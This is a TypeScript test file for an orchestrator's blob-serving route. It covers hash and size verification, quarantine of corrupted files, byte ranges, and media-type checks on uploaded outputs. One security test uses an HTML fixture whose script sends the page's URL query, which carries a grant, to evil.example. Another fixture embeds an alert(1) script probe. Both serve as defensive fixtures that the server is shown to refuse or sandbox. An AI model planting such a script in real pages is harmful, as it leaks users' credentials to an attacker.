import { createHash, randomBytes } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, truncateSync, writeFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { LINK_PATH, LINK_PROTOCOL_VERSION, type OrchestratorMessage } from '../../src/protocol/index.js';
import { meshForFile, waitFor } from '../helpers/mesh.js';
import { scriptedPng } from '../helpers/scripted-agent.js';

/**
 * The blob route of a real orchestrator over HTTP: verified bytes, quarantine
 * of corrupt files, byte ranges. Blobs are delivered as an agent delivers
 * outputs — a scripted agent on a real link, uploading through the real upload
 * route with its batch's credential (so the store records their size and media
 * type) — and corrupted on disk, as a failing disk or a careless operator would.
 * Outputs must be what their media type says, of a type their job type may
 * produce, and blobs are served so that they cannot script the origin.
 */
// Tests here fail attempts on purpose, one after another, on the one host there is: its breaker must not open.
const running = meshForFile({ args: ['--no-agent'], config: { breakers: { replica: { failuresToOpen: 1000, window: 1000, minCalls: 1000 } } } });
/** A video job the scripted agent keeps running, and the credential that lets it upload that job's outputs (clips). */
let jobId: string;
let credential: string;
/** The PNG output of a job that finished. */
let published: string;
let agent: WebSocket;
let heartbeat: NodeJS.Timeout | undefined;
type Run = Extract<OrchestratorMessage, { type: 'run' }>;
/** What the orchestrator sent the scripted agent, runs and acks, not yet taken by a test. */
const inbox: OrchestratorMessage[] = [];
/** The next batch sent to the scripted agent (of the job `jobId`, if named). */
const nextRun = (jobId?: string): Promise<Run> => waitFor(() => {
  const index = inbox.findIndex((message) => message.type === 'run' && (jobId === undefined || message.jobs.some((job) => job.id === jobId)));
  return index < 0 ? null : (inbox.splice(index, 1)[0] as Run);
}, { what: `a run message${jobId ? ` for ${jobId}` : ''}` });

/** Random bytes that pass for an MP4 (an `ftyp` box, then noise): an upload's bytes are checked against its media type. */
const FTYP = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypisom'), Buffer.from([0, 0, 2, 0]), Buffer.from('isomiso2')]);
function clip(size: number): Buffer {
  const bytes = randomBytes(size);
  FTYP.copy(bytes);
  return bytes;
}

const digestOf = (bytes: Uint8Array): string => `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
const fileOf = (digest: string): string => join(running().data, 'blobs', 'sha256', digest.slice(7, 9), digest.slice(7));
const auth = (): Record<string, string> => ({ authorization: `Bearer ${running().admin}` });

function put(bytes: Buffer, mediaType: string, to = { jobId, credential }): Promise<Response> {
  return fetch(`${running().url}/v1/jobs/${to.jobId}/outputs/${digestOf(bytes)}`, {
    method: 'PUT', body: new Uint8Array(bytes), headers: { authorization: `Bearer ${to.credential}`, 'content-type': mediaType },
  });
}

async function upload(bytes: Buffer, mediaType = 'video/mp4'): Promise<string> {
  const response = await put(bytes, mediaType);
  expect(response.status).toBe(201);
  return digestOf(bytes);
}

async function get(digest: string, headers: Record<string, string> = {}, method = 'GET') {
  const response = await fetch(`${running().url}/v1/blobs/${digest}`, { method, headers: { ...auth(), ...headers } });
  const bytes = Buffer.from(await response.arrayBuffer());
  let json: any = null;
  try { json = JSON.parse(bytes.toString()); } catch { /* the blob's bytes */ }
  return { status: response.status, headers: response.headers, bytes, json };
}

async function metric(line: RegExp): Promise<number> {
  const text = await (await fetch(`${running().url}/metrics`, { headers: auth() })).text();
  const match = line.exec(text);
  if (!match) throw new Error(`no ${line} in /metrics`);
  return Number(match[1]);
}
const verifications = () => metric(/^gpumesh_blob_verifications_total (\d+)$/m);
const failures = (check: 'size' | 'hash') => metric(new RegExp(`^gpumesh_blob_integrity_failures_total\\{check="${check}"\\} (\\d+)$`, 'm'));

function flipByte(digest: string, at: number): void {
  const bytes = readFileSync(fileOf(digest));
  bytes[at] = bytes[at]! ^ 0xff;
  writeFileSync(fileOf(digest), bytes); // in place: same inode, same size
}

function quarantined(digest: string): string[] {
  const dir = join(running().data, 'blobs', 'quarantine');
  return existsSync(dir) ? readdirSync(dir).filter((name) => name.startsWith(digest.replace(':', '-'))) : [];
}

/** The orchestrator's log (`gpumesh up` writes it to <data>/logs/orchestrator.log), as JSON lines. */
function logLines(): Record<string, any>[] {
  const path = join(running().data, 'logs', 'orchestrator.log');
  if (!existsSync(path)) return [];
  return readFileSync(path, 'utf8').split('\n').filter((line) => line.startsWith('{')).map((line) => JSON.parse(line) as Record<string, any>);
}

/** A clean error answer: our envelope, and none of the blob's validators or caching. */
function expectIntegrityError(answer: Awaited<ReturnType<typeof get>>, mention: string): void {
  expect(answer.status).toBe(502);
  expect(answer.json.error.code).toBe('INTEGRITY_FAILED');
  expect(answer.json.error.message).toContain(mention);
  expect(answer.headers.get('etag')).toBeNull();
  expect(answer.headers.get('cache-control')).toBeNull();
  expect(answer.headers.get('content-type')).toContain('application/json');
}

beforeAll(async () => {
  const client = running().client();
  const { token } = await client.request<{ token: string }>('POST', '/v1/grants', { kind: 'agent', host: 'scripted', classes: ['image', 'video'] });
  const url = new URL(LINK_PATH, running().url);
  url.protocol = 'ws:';
  agent = new WebSocket(url, { headers: { authorization: `Bearer ${token}` } });
  const devices = [{ id: 'cpu', kind: 'cpu', name: 'scripted', memoryTotalMB: 8192, budgetMB: 4096, usedMB: 0 }];
  const resident = new Map<string, { model: string; digest: string; device: string; memoryMB: number; lastUsedAt: number }>();
  agent.on('message', (data) => {
    const message = JSON.parse(data.toString()) as OrchestratorMessage;
    // Heartbeats keep the link alive however long the tests take (a slow machine), naming what was loaded.
    if (message.type === 'welcome') {
      heartbeat = setInterval(() => agent.send(JSON.stringify({ type: 'heartbeat', resident: [...resident.values()].map((model) => ({ ...model, lastUsedAt: Date.now() })), devices })), message.heartbeatMs);
      return;
    }
    // The autoscaler places a replica before it sends batches: answer as an agent that loaded it.
    if (message.type === 'load') {
      const { name, digest, memoryMB } = message.model;
      resident.set(name, { model: name, digest, device: 'cpu', memoryMB, lastUsedAt: Date.now() });
      agent.send(JSON.stringify({ type: 'loaded', model: name, digest, device: 'cpu', memoryMB }));
      return;
    }
    // A health probe of an idle replica (a slow run) passes, as a real agent's does: it must not hold a slot.
    if (message.type === 'run' && message.probe) {
      for (const job of message.jobs) agent.send(JSON.stringify({ type: 'done', jobId: job.id, batchId: message.batchId, artifacts: [], timings: { loadMs: 0, computeMs: 1, totalMs: 1 } }));
      return;
    }
    inbox.push(message);
  });
  agent.on('open', () => agent.send(JSON.stringify({
    type: 'hello', protocol: LINK_PROTOCOL_VERSION, host: 'scripted', classes: ['image', 'video'], engines: ['onnx'], models: [], inFlight: [],
    // Room for the job the tests hold running and for the jobs they finish one by one.
    devices, concurrency: 4, version: 'test',
  })));
  // The first job finishes with a real PNG, uploaded like any output, so it is an artifact.
  const first = await client.submit({ type: 'image', input: { prompt: 'blob owner', width: 64, height: 64, steps: 2 } });
  const run = await nextRun();
  jobId = first.id;
  credential = run.uploadCredential;
  const png = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#3366cc' } }).png().toBuffer();
  published = await upload(png, 'image/png');
  agent.send(JSON.stringify({ type: 'done', jobId, batchId: run.batchId, artifacts: [{ digest: published, mediaType: 'image/png', bytes: png.length }], timings: { loadMs: 0, computeMs: 1, totalMs: 1 } }));
  expect((await client.follow(first.id)).type).toBe('succeeded');
  // The second, a clip, stays running: the tests upload their blobs as its outputs.
  const second = await client.submit({ type: 'video', input: { prompt: 'blob holder', frames: 2, width: 16, height: 16, steps: 1 } });
  const held = await nextRun();
  jobId = second.id;
  credential = held.uploadCredential;
});

afterAll(() => {
  clearInterval(heartbeat);
  agent?.close();
});

describe('verified blobs', () => {
  it('a good blob streams whole and is hashed once; later GETs are served from its verified mark', async () => {
    const bytes = clip(1024 * 1024 + 17);
    const digest = await upload(bytes);
    const before = await verifications();
    const first = await get(digest);
    expect(first.status).toBe(200);
    expect(first.bytes.equals(bytes)).toBe(true);
    expect(first.headers.get('content-length')).toBe(String(bytes.length));
    expect(first.headers.get('content-type')).toBe('video/mp4');
    expect(first.headers.get('content-disposition')).toBe(`inline; filename="${digest.slice(7, 23)}.mp4"`);
    expect(first.headers.get('x-content-type-options')).toBe('nosniff');
    expect(first.headers.get('accept-ranges')).toBe('bytes');
    expect(first.headers.get('etag')).toBe(`"${digest}"`);
    expect(first.headers.get('cache-control')).toContain('immutable');
    expect(await verifications()).toBe(before + 1);
    for (let i = 0; i < 3; i++) expect((await get(digest)).bytes.equals(bytes)).toBe(true);
    expect(await get(digest, { range: 'bytes=0-9' })).toMatchObject({ status: 206 });
    expect(await verifications()).toBe(before + 1);
    const cached = await get(digest, { 'if-none-match': `"${digest}"` });
    expect(cached.status).toBe(304);
    expect(cached.headers.get('etag')).toBe(`"${digest}"`);
  });

  it('a published output with flipped bytes (one chunk) gets the error, not the bytes; the next GET says it was quarantined', async () => {
    const png = published;
    expect((await get(png)).status).toBe(200);
    const failed = await failures('hash');
    const stream = new AbortController();
    const events = await fetch(`${running().url}/v1/events`, { headers: auth(), signal: stream.signal });
    let seen = '';
    void (async () => {
      try {
        for await (const chunk of events.body!) seen += Buffer.from(chunk as Uint8Array).toString();
      } catch { /* aborted */ }
    })();
    flipByte(png, 40);
    expectIntegrityError(await get(png), 'its bytes hash to sha256:');
    // Admins watching the mesh see it as it happens.
    await waitFor(() => seen.includes('event: blob:corrupt') && seen.includes(png), { what: 'a blob:corrupt mesh event' });
    stream.abort();
    expect(existsSync(fileOf(png))).toBe(false);
    expect(quarantined(png)).toHaveLength(1);
    expect(await failures('hash')).toBe(failed + 1);
    expectIntegrityError(await get(png), 'moved to quarantine');
    const head = await get(png, {}, 'HEAD');
    expect(head.status).toBe(502);
    expect(head.headers.get('etag')).toBeNull();
    expect(await failures('hash')).toBe(failed + 1);
  });

  it('flipped bytes in a large blob, served before: fetch sees a broken transfer; the file is quarantined, logged and counted', async () => {
    const bytes = clip(2 * 1024 * 1024);
    const digest = await upload(bytes);
    expect((await get(digest)).status).toBe(200); // verified and marked
    const failed = await failures('hash');
    flipByte(digest, bytes.length - 1); // same size: the changed mtime/ctime drops the mark
    const response = await fetch(`${running().url}/v1/blobs/${digest}`, { headers: auth() });
    expect(response.status).toBe(200); // the mismatch is known only at the end
    expect(response.headers.get('content-length')).toBe(String(bytes.length));
    await expect(response.arrayBuffer()).rejects.toThrow();
    expect(existsSync(fileOf(digest))).toBe(false);
    expect(quarantined(digest)).toHaveLength(1);
    expect(await failures('hash')).toBe(failed + 1);
    const logged = await waitFor(() => logLines().find((line) => line.digest === digest), { what: 'the log line' });
    expect(logged).toMatchObject({ level: 50, part: 'blobs', check: 'hash', expected: digest, msg: 'a stored blob failed its integrity check and was quarantined' });
    expect(logged.quarantinedTo).toBe(join(running().data, 'blobs', 'quarantine', quarantined(digest)[0]!));
    expectIntegrityError(await get(digest), 'moved to quarantine');
  });

  it('node:http sees the response end short of its Content-Length', async () => {
    const bytes = clip(512 * 1024);
    const digest = await upload(bytes);
    flipByte(digest, 0);
    const outcome = await new Promise<{ status: number; length: number; received: number; complete: boolean }>((resolve, reject) => {
      const request = httpRequest(`${running().url}/v1/blobs/${digest}`, { headers: auth() }, (response) => {
        let received = 0;
        response.on('data', (chunk: Buffer) => (received += chunk.length));
        response.on('error', () => {}); // 'aborted' surfaces as an error on newer Node; the outcome is read on close
        response.on('close', () => resolve({
          status: response.statusCode!, length: Number(response.headers['content-length']), received, complete: response.complete,
        }));
      });
      request.on('error', reject);
      request.end();
    });
    expect(outcome.status).toBe(200);
    expect(outcome.length).toBe(bytes.length);
    expect(outcome.complete).toBe(false);
    expect(outcome.received).toBeLessThan(bytes.length);
  });

  it('a truncated file is refused before a byte is sent', async () => {
    const digest = await upload(clip(300_000));
    const before = { size: await failures('size'), hashes: await verifications() };
    truncateSync(fileOf(digest), 150_000);
    expectIntegrityError(await get(digest), 'its file holds 150000 bytes, not the 300000 bytes recorded');
    expect(await failures('size')).toBe(before.size + 1);
    expect(await verifications()).toBe(before.hashes); // caught by the size check, without reading
    expect(quarantined(digest)).toHaveLength(1);
  });

  it('a range of a corrupt blob is refused before a byte is sent, even outside the flipped byte', async () => {
    const digest = await upload(clip(400_000));
    flipByte(digest, 399_999);
    expectIntegrityError(await get(digest, { range: 'bytes=0-99' }), 'its bytes hash to');
    expect(quarantined(digest)).toHaveLength(1);
  });

  it('an unknown blob is still 404', async () => {
    expect((await get(`sha256:${'2'.repeat(64)}`)).json.error.code).toBe('NOT_FOUND');
  });
});

describe('byte ranges', () => {
  const SIZE = 300_000;
  let bytes: Buffer;
  let digest: string;
  beforeAll(async () => {
    bytes = clip(SIZE);
    digest = await upload(bytes);
  });

  it('bytes=a-b, a- and -n answer 206 with Content-Range and the exact bytes; the first range hashes the whole blob once', async () => {
    const before = await verifications();
    for (const [header, start, end] of [['bytes=100-199', 100, 199], ['bytes=299990-', 299_990, SIZE - 1], ['bytes=-10', SIZE - 10, SIZE - 1], ['bytes=0-999999', 0, SIZE - 1]] as const) {
      const answer = await get(digest, { range: header });
      expect(answer.status, header).toBe(206);
      expect(answer.headers.get('content-range'), header).toBe(`bytes ${start}-${end}/${SIZE}`);
      expect(answer.headers.get('content-length'), header).toBe(String(end - start + 1));
      expect(answer.headers.get('accept-ranges')).toBe('bytes');
      expect(answer.headers.get('etag')).toBe(`"${digest}"`);
      expect(answer.bytes.equals(bytes.subarray(start, end + 1)), header).toBe(true);
    }
    expect(await verifications()).toBe(before + 1);
  });

  it('a range past the end is 416 with Content-Range: bytes */size, in the error envelope', async () => {
    const answer = await get(digest, { range: `bytes=${SIZE}-` });
    expect(answer.status).toBe(416);
    expect(answer.headers.get('content-range')).toBe(`bytes */${SIZE}`);
    expect(answer.json.error).toEqual({ code: 'RANGE_NOT_SATISFIABLE', message: `The range "bytes=${SIZE}-" is outside the blob's ${SIZE} bytes` });
  });

  it('If-Range with the ETag keeps the range; with another validator the whole blob comes back', async () => {
    const same = await get(digest, { range: 'bytes=5-9', 'if-range': `"${digest}"` });
    expect(same.status).toBe(206);
    expect(same.bytes.equals(bytes.subarray(5, 10))).toBe(true);
    for (const validator of ['"sha256:0000"', 'Wed, 21 Oct 2015 07:28:00 GMT']) {
      const other = await get(digest, { range: 'bytes=5-9', 'if-range': validator });
      expect(other.status).toBe(200);
      expect(other.bytes.equals(bytes)).toBe(true);
    }
    // If-None-Match is checked first: a cached copy is still a 304.
    expect((await get(digest, { range: 'bytes=5-9', 'if-none-match': `"${digest}"` })).status).toBe(304);
  });

  it('HEAD answers the same headers without a body, for the whole blob and a range', async () => {
    const whole = await get(digest, {}, 'HEAD');
    expect(whole.status).toBe(200);
    expect(whole.headers.get('content-length')).toBe(String(SIZE));
    expect(whole.headers.get('accept-ranges')).toBe('bytes');
    expect(whole.bytes.length).toBe(0);
    const part = await get(digest, { range: 'bytes=10-19' }, 'HEAD');
    expect(part.status).toBe(206);
    expect(part.headers.get('content-range')).toBe(`bytes 10-19/${SIZE}`);
    expect(part.headers.get('content-length')).toBe('10');
    expect(part.bytes.length).toBe(0);
  });

  it('several ranges get the whole blob (200), as docs/api.md says', async () => {
    const answer = await get(digest, { range: 'bytes=0-1,10-11' });
    expect(answer.status).toBe(200);
    expect(answer.bytes.equals(bytes)).toBe(true);
  });
});

describe('outputs are what they claim, and blobs cannot script the origin (issue 19)', () => {
  const timings = { loadMs: 0, computeMs: 1, totalMs: 1 };
  const send = (message: unknown): void => agent.send(JSON.stringify(message));
  const inline = (bytes: Buffer, mediaType: string) => ({ digest: digestOf(bytes), mediaType, bytes: bytes.length, inline: bytes.toString('base64') });
  const hex16 = (digest: string): string => digest.slice(7, 23);
  /** A page that would read the grant in its own URL, were it ever run on the orchestrator's origin. */
  const html = Buffer.from('<!doctype html><script>fetch("https://evil.example/?" + location.search)</script>');

  /** An image job submitted and dispatched to the scripted agent. */
  async function started(prompt: string): Promise<{ id: string; run: Run; to: { jobId: string; credential: string } }> {
    const { id } = await running().client().submit({ type: 'image', input: { prompt, width: 64, height: 64, steps: 2 } });
    const run = await nextRun(id);
    return { id, run, to: { jobId: id, credential: run.uploadCredential } };
  }

  /** The report was refused: the job is tried again (here failed for good, so it ends); the first attempt's error. */
  async function refusedAttempt(id: string): Promise<{ code: string; message: string }> {
    const ended = running().client().follow(id);
    const retry = await Promise.race([nextRun(id), ended]);
    if (retry.type !== 'run') throw new Error(`the report was not refused: the job ended ${retry.type}`);
    send({ type: 'failed', jobId: id, batchId: retry.batchId, retryable: false, error: { code: 'INVALID_INPUT', message: 'ended by the test' } });
    expect((await ended).type).toBe('failed');
    const view = await running().client().job(id);
    expect(view.artifacts).toEqual([]);
    return view.attempts[0]!.error!;
  }

  function expectSafeHeaders(answer: { headers: Headers }): void {
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
  }

  it('an inline text/html output fails the attempt with INTEGRITY_FAILED and is never stored or served', async () => {
    const { id, run } = await started('html inline');
    send({ type: 'done', jobId: id, batchId: run.batchId, timings, artifacts: [inline(html, 'text/html')] });
    const error = await refusedAttempt(id);
    expect(error.code).toBe('INTEGRITY_FAILED');
    expect(error.message).toContain('text/html is not an output type of image jobs');
    const answer = await get(digestOf(html));
    expect(answer.status).toBe(404);
    expect(answer.headers.get('content-type')).not.toContain('text/html');
  });

  it('HTML declared as image/png fails the attempt: the bytes are checked against the type they claim', async () => {
    const { id, run } = await started('html as png');
    send({ type: 'done', jobId: id, batchId: run.batchId, timings, artifacts: [inline(html, 'image/png')] });
    const error = await refusedAttempt(id);
    expect(error.code).toBe('INTEGRITY_FAILED');
    expect(error.message).toContain('the bytes are not image/png');
    expect((await get(digestOf(html))).status).toBe(404);
  });

  it('a real PNG is kept and served as an image, with nosniff, a sandboxing CSP and an inline disposition', async () => {
    const png = scriptedPng('a real png');
    const { id, run } = await started('real png');
    send({ type: 'done', jobId: id, batchId: run.batchId, timings, artifacts: [inline(png, 'image/png')] });
    expect((await running().client().follow(id)).type).toBe('succeeded');
    const digest = digestOf(png);
    for (const answer of [await get(digest), await get(digest, {}, 'HEAD'), await get(digest, { range: 'bytes=0-9' })]) {
      expect(answer.status).toBeLessThan(300);
      expect(answer.headers.get('content-type')).toBe('image/png');
      expect(answer.headers.get('content-disposition')).toBe(`inline; filename="${hex16(digest)}.png"`);
      expectSafeHeaders(answer);
    }
    expect((await get(digest)).bytes.equals(png)).toBe(true);
    const cached = await get(digest, { 'if-none-match': `"${digest}"` });
    expect(cached.status).toBe(304);
    expectSafeHeaders(cached);
  });

  it('JSON and plain text outputs are kept, and served as attachments', async () => {
    const json = Buffer.from('{"scores":[0.25,0.75],"note":"<script>alert(1)</script>"}');
    const text = Buffer.from('a caption, with <b>markup</b> that stays text\n');
    const { id, run } = await started('json and text');
    send({ type: 'done', jobId: id, batchId: run.batchId, timings, artifacts: [inline(json, 'application/json'), inline(text, 'text/plain')] });
    expect((await running().client().follow(id)).type).toBe('succeeded');
    const [asJson, asText] = [await get(digestOf(json)), await get(digestOf(text))];
    expect(asJson.status).toBe(200);
    expect(asJson.bytes.equals(json)).toBe(true);
    expect(asJson.headers.get('content-type')).toBe('application/json');
    expect(asJson.headers.get('content-disposition')).toBe(`attachment; filename="${hex16(digestOf(json))}.json"`);
    expectSafeHeaders(asJson);
    expect(asText.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(asText.headers.get('content-disposition')).toBe(`attachment; filename="${hex16(digestOf(text))}.txt"`);
    expectSafeHeaders(asText);
  });

  it('JSON that does not parse fails the attempt', async () => {
    const { id, run } = await started('bad json');
    send({ type: 'done', jobId: id, batchId: run.batchId, timings, artifacts: [inline(Buffer.from('{"open": '), 'application/json')] });
    const error = await refusedAttempt(id);
    expect(error.code).toBe('INTEGRITY_FAILED');
    expect(error.message).toContain('does not parse as JSON');
  });

  it('an upload whose bytes are not its Content-Type, or whose type the job may not produce, is refused (415) and leaves nothing to publish', async () => {
    const { id, run, to } = await started('lying upload');
    const refusal = async (bytes: Buffer, mediaType: string): Promise<string> => {
      const response = await put(bytes, mediaType, to);
      expect(response.status, mediaType).toBe(415);
      const { error } = (await response.json()) as { error: { code: string; message: string } };
      expect(error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
      return error.message;
    };
    expect(await refusal(html, 'image/png')).toContain('the bytes are not image/png: they carry no signature of a known media type');
    const jpeg = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#cc3366' } }).jpeg().toBuffer();
    expect(await refusal(jpeg, 'image/png')).toContain('the bytes are not image/png: their signature is that of image/jpeg');
    expect(await refusal(html, 'text/html')).toContain('text/html is not an output type of image jobs');
    expect(await refusal(scriptedPng('a png, not a clip'), 'video/mp4')).toContain('video/mp4 is not an output type of image jobs');
    for (const bytes of [html, jpeg]) expect((await get(digestOf(bytes))).status).toBe(404);
    // A report that names the refused upload anyway fails the attempt: it was never uploaded for the job.
    send({ type: 'done', jobId: id, batchId: run.batchId, timings, artifacts: [{ digest: digestOf(html), mediaType: 'image/png', bytes: html.length }] });
    const error = await refusedAttempt(id);
    expect(error.code).toBe('INTEGRITY_FAILED');
    expect(error.message).toContain('never uploaded');
  });

  it('a report cannot relabel an upload: the type its bytes were checked against is the one that counts', async () => {
    const { id, run, to } = await started('relabelled');
    const png = scriptedPng('relabelled');
    expect((await put(png, 'image/png', to)).status).toBe(201);
    send({ type: 'done', jobId: id, batchId: run.batchId, timings, artifacts: [{ digest: digestOf(png), mediaType: 'text/plain', bytes: png.length }] });
    const error = await refusedAttempt(id);
    expect(error.code).toBe('INTEGRITY_FAILED');
    expect(error.message).toContain('was reported as text/plain but stored as image/png');
  });
});
